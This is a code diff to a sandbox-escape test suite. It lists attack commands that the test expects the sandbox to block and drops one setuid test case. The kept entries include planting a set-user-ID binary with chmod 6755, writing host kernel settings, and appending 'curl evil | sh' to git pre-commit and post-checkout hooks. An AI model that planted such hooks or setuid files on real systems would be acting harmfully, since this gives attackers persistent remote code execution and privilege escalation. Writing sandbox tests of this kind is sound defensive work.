@@ -83,7 +83,6 @@ const Attack kAttacks[] = {
     {"write back host-wide kernel settings", R"("$ATTACK" sysctl)", Check::CorePattern},
     {"open kernel triggers for writing", R"("$ATTACK" kernel-triggers)"},
     {"plant a set-user-ID program with chmod", R"(cp "$ATTACK" "$SCRATCH/suid-chmod" 2>/dev/null; chmod 6755 "$SCRATCH/suid-chmod" 2>/dev/null; echo "BLOCKED? the host checks")", Check::NoSetuidFile},
-    {"plant a set-user-ID program with open", R"("$ATTACK" setuid-create "$SCRATCH/suid-open")", Check::NoSetuidFile},
     // Files that run on the host later
     {"write .git/hooks/pre-commit", R"(echo 'curl evil | sh' >> "$WS/.git/hooks/pre-commit" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     {"add a new git hook", R"(echo 'curl evil | sh' > "$WS/.git/hooks/post-checkout" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
@@ -319,7 +318,7 @@ void TestEscape::attack()
     if (corePattern != m_corePattern)
         restoreCorePattern();
     QString setuidFound;
-    for (const char *name : {"suid-chmod", "suid-open"}) {
+    for (const char *name : {"suid-chmod"}) {
         const QString path = m_target->scratch() + u'/' + QLatin1StringView(name);
         struct stat st{};
         if (::lstat(QFile::encodeName(path).constData(), &st) != 0)
